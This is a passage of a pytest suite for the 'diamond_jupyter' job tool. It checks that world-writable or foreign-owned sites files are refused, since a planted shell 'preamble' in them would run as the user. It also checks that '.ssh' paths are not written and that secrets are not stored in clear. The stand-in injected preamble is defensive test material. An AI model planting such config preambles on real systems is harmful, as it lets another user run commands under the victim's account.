        assert not (fed.server_root / ".ssh").exists()
        if tool == "fetch_results":  # (guard) a plain directory: fetched as before
            ok = {**args, "dest": "results"}
            if approval == "ask":
                with pytest.raises(NeedsApproval):
                    await run_skill(SkillContext(fed, approval=approval), tool, ok)
            else:
                out = await run_skill(SkillContext(fed, approval=approval), tool, ok)
                assert [Path(p).name for p in out.paths] == ["authorized_keys"]
    finally:
        await fed.close()


# -- 10. the environment ---------------------------------------------------------------------

SITES = "sites:\n  - name: here\n    transport: {kind: local}\n    preamble: 'touch /tmp/x'\n"


def _owned_by_someone_else(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`path` belongs to a user who is neither the process's nor root."""
    if os.getuid() == 0:
        os.chown(path, 65534, 65534)
    else:
        real = os.getuid()
        monkeypatch.setattr(os, "getuid", lambda: real + 1)


def test_a_sites_file_anyone_can_write_is_not_read(tmp_path):
    """A sites file left writable by everyone (0666 in a project space): any local user
    could add a `preamble` or a `commands:` path, which run as the user on every site (the
    only shell text the engine runs as written). Refused unread, naming the mode."""
    from diamond_jupyter.config import load_config

    p = tmp_path / "sites.yaml"
    p.write_text(SITES)
    p.chmod(0o666)
    with pytest.raises(BadInput, match=r"can be written by anyone \(mode 0666\)"):
        load_config(p)
    p.chmod(0o644)
    assert load_config(p).sites[0].name == "here"  # (guard) the usual mode: read


def test_a_default_sites_file_another_user_planted_is_not_read(tmp_path, monkeypatch):
    """With $XDG_CONFIG_HOME in a shared place, another local user could write
    `diamond/sites.yaml` there first: the engine, given no file, read it, and ran its
    preamble as the user. A file the user did not name must be theirs (or root's); one
    they name (--config, DIAMOND_CONFIG: a center's file) is read whoever owns it."""
    from diamond_jupyter.config import load_config

    conf = tmp_path / "xdg" / "diamond"
    conf.mkdir(parents=True)
    p = conf / "sites.yaml"
    p.write_text(SITES)
    monkeypatch.delenv("DIAMOND_CONFIG", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    assert load_config().sites[0].name == "here"  # (guard) the user's own: read
    _owned_by_someone_else(p, monkeypatch)
    with pytest.raises(BadInput, match=r"belongs to another user .* not read"):
        load_config()
    assert load_config(p).sites[0].name == "here"  # named by the user: read
    monkeypatch.setenv("DIAMOND_CONFIG", str(p))
    assert load_config().sites[0].name == "here"


def test_a_bad_crypt_key_in_the_environment_stores_no_secret_in_clear(tmp_path, monkeypatch,
                                                                      capsys):
    """(guard) `DIAMOND_CRYPT_KEY` set to something that is no key: the submit of a script
    holding a secret stops with one line naming the variable, and the secret is in none of
    the store's files."""
    from diamond_jupyter.cli.main import main

    home, data = tmp_path / "home", tmp_path / "data"
    home.mkdir()
    sites = tmp_path / "sites.yaml"
    sites.write_text(yaml.safe_dump({"sites": [{"name": "here", "transport": {"kind": "local"},
                                                "workdir": str(home / ".diamond")}]}))
    script = tmp_path / "job.sh"
    script.write_text("#!/bin/bash\nexport API_TOKEN=abcdefabcdef1234567890abcd\necho hi\n")
    for k, v in {"DIAMOND_DATA_DIR": str(data), "HOME": str(home), "DIAMOND_CONFIG": str(sites),
                 "DIAMOND_ENGINE": "local", "DIAMOND_CRYPT_KEY": "not-a-key"}.items():
        monkeypatch.setenv(k, v)
    assert main(["submit", "--site", "here", str(script)]) != 0
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "$DIAMOND_CRYPT_KEY is not a Fernet key" in err[0]
    for f in data.rglob("*"):
        if f.is_file():
            assert b"abcdefabcdef1234567890abcd" not in f.read_bytes(), f
